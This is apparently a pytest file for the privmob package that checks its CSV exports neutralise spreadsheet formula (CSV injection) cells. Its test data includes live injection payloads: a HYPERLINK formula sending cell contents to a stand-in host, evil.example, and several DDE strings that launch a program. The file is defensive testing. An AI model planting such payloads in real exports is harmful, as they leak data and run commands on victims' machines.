"""CSV files privmob writes cannot run formulas in a spreadsheet (CSV injection): text cells
starting with = + - @ (or a tab or carriage return) are written with a leading quote, numbers
stay numbers; and every ``to_csv`` of the package goes through the one writer that does it."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
from shapely.geometry import box

import privmob as pm
from privmob.data.csv_cells import escape_cell, write_csv

SRC = Path(__file__).resolve().parents[2] / "src" / "privmob"

NAMES = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "Mitte",
]


def test_escape_cell() -> None:
    assert [escape_cell(n)[:2] for n in NAMES[:6]] == ["'=", "'+", "'@", "'-", "'\t", "'\r"]
    assert escape_cell("Mitte") == "Mitte" and escape_cell(-3) == -3 and escape_cell(None) is None


def test_a_layer_csv_of_tiles_named_like_formulas(tmp_path: Path) -> None:
    tiles = [box(13 + i * 0.01, 52, 13.01 + i * 0.01, 52.01) for i in range(len(NAMES))]
    tess = gpd.GeoDataFrame({"tile_id": range(len(NAMES)), "name": NAMES}, geometry=tiles, crs=4326)
    rng = np.random.default_rng(3)
    n = 300
    events = pd.DataFrame(
        {
            "uid": rng.integers(0, 60, n),
            "datetime": pd.Timestamp("2024-01-01 22:00")
            + pd.to_timedelta(rng.integers(0, 3600, n), "s"),
            "lat": 52.005 + rng.uniform(-0.004, 0.004, n),
            "lng": 13.005 + rng.integers(0, len(NAMES), n) * 0.01,
        }
    )
    s = pm.Session(events, tessellation=tess, budget=5, dataset="x", seed=4)
    s.population(epsilon=1, output=tmp_path / "pop", formats=["csv"])
    s.close()
    with (tmp_path / "pop" / "population_tiles.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    names = [r["tile_name"] for r in rows]
    assert sorted(names) == sorted("'" + n if n != "Mitte" else n for n in NAMES)
    for row in rows:  # no cell of any column starts a formula
        assert not any(str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()
                       if not re.fullmatch(r"-?\d+(\.\d+)?", str(v))), row  # fmt: skip
    counts = [int(r["count"]) for r in rows]  # numbers are written as numbers
    assert all(isinstance(c, int) for c in counts)


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    write_csv(pd.DataFrame({"count": [-3, 5], "zone": ["-north", "south"]}), tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text().splitlines() == ["count,zone", "-3,'-north", "5,south"]


def test_every_csv_privmob_writes_goes_through_write_csv() -> None:
    writers = [
        f"{p.relative_to(SRC)}:{i}"
        for p in SRC.rglob("*.py")
        if p.name != "csv_cells.py"
        for i, line in enumerate(p.read_text().splitlines(), 1)
        if re.search(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", line)
    ]
    assert writers == [], f"CSV written without privmob.data.csv_cells.write_csv: {writers}"
